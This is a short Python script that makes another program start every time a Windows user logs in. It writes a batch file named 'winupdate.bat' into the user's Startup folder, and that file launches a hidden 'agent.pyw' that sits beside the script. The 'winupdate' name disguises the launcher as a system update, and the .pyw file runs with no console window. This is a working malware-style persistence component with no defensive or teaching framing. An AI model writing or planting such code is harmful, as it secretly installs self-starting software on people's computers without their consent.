import os
USER = os.getlogin()
BAT = r'C:\Users\%s\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup' % USER
def add(file_path=""):
    with open(BAT + '\\' + "winupdate.bat", "w+") as f:
        f.write(r'start "" "%s"' % file_path)
add(os.path.join(os.path.dirname(__file__), "agent.pyw"))
